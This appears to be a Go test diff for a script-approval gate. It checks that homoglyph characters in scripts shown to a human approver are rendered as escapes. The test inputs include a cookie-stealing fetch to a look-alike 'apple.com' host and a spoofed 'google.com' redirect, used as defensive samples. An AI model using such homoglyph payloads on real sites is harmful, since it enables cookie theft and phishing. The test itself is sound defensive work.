@@ -62,3 +62,32 @@ func TestAuthorizeScript(t *testing.T) {
 		})
 	}
 }
+
+// TestScriptShownInASCII: a script the person reads must read as what runs.
+// Letters of another script drawn as Latin ones (a Cyrillic а in a host or
+// a name, a full-width ｆ, a Greek ο) and a mark drawn on a letter are
+// escapes in what they read, never the look-alike glyph.
+func TestScriptShownInASCII(t *testing.T) {
+	t.Parallel()
+	for _, src := range []string{
+		"() => fetch('https://\u0430pple.com/x?c=' + document.cookie)",
+		"() => { const p\u0430ssword = 1; return password }",
+		"() => \uff46etch('/x')",
+		"() => location.href = 'https://g\u03bfogle.com'",
+		"() => 'e\u0301'",
+	} {
+		h := &human{decision: Decision{Approved: false, Channel: ChannelWeb}}
+		g := NewGate(nil, h, Options{})
+		if _, err := g.AuthorizeScript(context.Background(), nil, Action{Verb: VerbScript, Value: src}); err != nil {
+			t.Fatal(err)
+		}
+		r := h.asked[len(h.asked)-1]
+		shown := r.Prompt() + "\n" + strings.Join(r.Lines(), "\n") + "\n" + r.Action
+		for _, c := range shown {
+			if c > 0x7e {
+				t.Errorf("the person reads %q raw in %s", c, shown)
+				break
+			}
+		}
+	}
+}
